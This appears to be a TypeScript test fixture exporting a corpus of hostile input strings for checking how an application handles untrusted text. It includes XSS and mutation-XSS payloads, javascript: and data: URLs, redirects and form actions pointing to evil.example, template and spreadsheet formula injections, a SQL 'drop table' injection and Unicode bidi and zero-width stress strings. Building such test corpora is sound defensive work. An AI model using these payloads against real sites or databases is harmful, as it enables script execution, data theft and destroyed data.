/** Texts that are harmless as text and do harm wherever they are taken for anything else. */
export const payloads = [
  `<script>alert('script')</script>`,
  `"><img src=x onerror=alert('img')>`,
  `<svg onload=alert('svg')>`,
  `'"--></style></script><script>alert('out')</script>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert('math')&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=alert('noscript')>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=alert('style')>">`,
  `[read on](javascript:alert('markdown'))`,
  `![](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `javascript:alert('address')//`,
  `<a href="javascript:alert('link')" onfocus=alert('focus') autofocus>`,
  `<iframe srcdoc="<script>alert('frame')</script>"></iframe>`,
  `<form action=//evil.example><input name=secret formaction=javascript:alert('form')>`,
  `<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example>`,
  `{{constructor.constructor('alert(1)')()}} \${alert(1)} <%= alert(1) %> #{alert(1)}`,
  `=HYPERLINK("http://evil.example","press")`,
  `+1+1`,
  `-1+1`,
  `@SUM(1,1)`,
  `＝1+1`,
  `|calc %x "=1+1`,
  `'; drop table app.organisation; --`,
  `\u202Eright to left\u202C and \u2066alone\u2069 and \u200Fback`,
  `\uFEFFno\u200Bwidth \u00AD\u2060\u2028line \uFFFDunknown \u{E0041}\u{1F468}\u200D\u{1F469}\u200D\u{1F467}`,
  `e${'\u0301\u0323\u0360'.repeat(8)}`,
  `\u0627\u0633\u062A\u0631\u0627\u062A\u064A\u062C\u064A\u0629 (2027)`,
  `__proto__ constructor toString`,
  `%00 \\u0000 &#0; &lt;script&gt;alert(1)&lt;/script&gt; %3Cscript%3E`,
] as const;

/** All of them, and a word of ten thousand letters. */
export const everything = `${payloads.join('\n')}\n\n${'W'.repeat(10_000)}`;

const perText = new Map<number, string[]>();

/** Texts of at most so many characters that hold the whole corpus between them, and one that is a single long word. */
export function textsOf(most: number): string[] {
  const known = perText.get(most);
  if (known !== undefined) return known;
  const texts = ['W'.repeat(most)];
  for (const payload of payloads.filter(({ length }) => length <= most)) {
    const last = texts.length - 1;
    const longer = `${texts[last]} ${payload}`;
    if (last > 0 && longer.length <= most) texts[last] = longer;
    else texts.push(payload);
  }
  perText.set(most, texts);
  return texts;
}

const given = new Map<number, number>();

/** The next of the texts of at most so many characters. */
export function text(most: number): string {
  const texts = textsOf(most);
  const turn = given.get(most) ?? 0;
  given.set(most, turn + 1);
  return texts[turn % texts.length] ?? '';
}

/** A text as a name may be: on one line, without what cannot be seen or turns writing round. */
const asLine = (words: string) => words.replaceAll(/[^\p{L}\p{M}\p{N}\p{P}\p{S}\p{Zs}\u200c-\u200f\u061c]/gu, ' ');

export const lineOf = (most: number): string => asLine(text(most));
export const linesOf = (most: number): string[] => textsOf(most).map(asLine);
